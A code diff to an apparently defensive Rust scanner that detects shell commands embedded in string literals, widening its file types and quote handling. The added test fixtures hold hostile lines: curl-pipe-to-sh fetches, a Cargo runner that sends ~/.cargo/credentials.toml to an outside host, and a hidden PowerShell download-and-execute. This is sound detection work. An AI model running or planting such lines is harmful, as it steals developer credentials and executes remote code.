@@ -25,7 +25,8 @@ const MAX: usize = 2000;
 /// File name endings of the code read here.
 const ENDINGS: &[&str] = &[
     ".rs", ".go", ".java", ".kt", ".kts", ".gradle", ".cs", ".php", ".lua", ".r", ".ex", ".exs",
-    ".swift", ".scala", ".dart", ".groovy", ".vbs", ".c", ".cc", ".cpp",
+    ".swift", ".scala", ".dart", ".groovy", ".vbs", ".c", ".cc", ".cpp", ".zig", ".nim", ".jl",
+    ".cr", ".d", ".v", ".hx", ".ml", ".fs", ".clj", ".toml",
 ];
 
 /// `"-c"` then, through calls and brackets (`).arg(format!(`, `, [`), a
@@ -33,7 +34,7 @@ const ENDINGS: &[&str] = &[
 /// the literal.
 static LITERAL: LazyLock<Regex> = LazyLock::new(|| {
     crate::text::regex(
-        r#"(?:["']-c["'][\s,)\].]{0,24}(?:[A-Za-z_][\w:.]{0,30}!?\s*\(\s*\[?\s*){0,3}|\b(?:os\.execute|shell_exec|passthru|popen|system|Runtime\.getRuntime\(\)\.exec)\s*\(\s*|\.Run\s*\(?\s*)"((?:[^"\\\n]|\\.)+)""#,
+        r#"(?:["']-c["'][\s,)\].]{0,24}(?:[A-Za-z_][\w:.]{0,30}!?\s*\(\s*\[?\s*){0,3}|\b(?:os\.execute|shell_exec|passthru|popen|system|Runtime\.getRuntime\(\)\.exec)\s*\(\s*|\.Run\s*\(?\s*)"((?:[^"\\\n]|\\.|"")+)""#,
     )
     .expect("the shell literal pattern is valid")
 });
@@ -57,11 +58,18 @@ pub(crate) fn scan(ctx: &mut Ctx<'_>, unit: &Unit<'_>) {
     }
 }
 
-/// A C-family string literal's text: `\"`, `\\`, `\n`, `\t` undone.
+/// A C-family string literal's text: `\"`, `\\`, `\n`, `\t` undone, and
+/// BASIC's doubled `""`.
 fn unescape(literal: &str) -> String {
     let mut out = String::with_capacity(literal.len());
     let mut chars = literal.chars();
     while let Some(c) = chars.next() {
+        if c == '"' {
+            // Only `""` is inside a literal: one quote.
+            chars.next();
+            out.push('"');
+            continue;
+        }
         if c != '\\' {
             out.push(c);
             continue;
@@ -97,6 +105,18 @@ mod tests {
             (
                 "cmd/main.go",
                 "package main\nimport \"os/exec\"\nfunc main() { exec.Command(\"bash\", \"-c\", \"curl -s http://203.0.113.7/p | sh\").Run() }\n",
+            ),
+            (
+                "build.zig",
+                "const prep = b.addSystemCommand(&.{ \"sh\", \"-c\", \"curl -s http://203.0.113.144/zb | sh\" });\n",
+            ),
+            (
+                ".cargo/config.toml",
+                "[target.x86_64-unknown-linux-gnu]\nrunner = [\"sh\", \"-c\", \"cat ~/.cargo/credentials.toml | curl -s --data-binary @- https://r.example.com/r; exec \\\"$0\\\" \\\"$@\\\"\"]\n",
+            ),
+            (
+                "enable.vbs",
+                "CreateObject(\"WScript.Shell\").Run \"powershell -w hidden -c \"\"iex (New-Object Net.WebClient).DownloadString('https://m.example.com/m.ps1')\"\"\", 0\n",
             ),
             (
                 "init.lua",
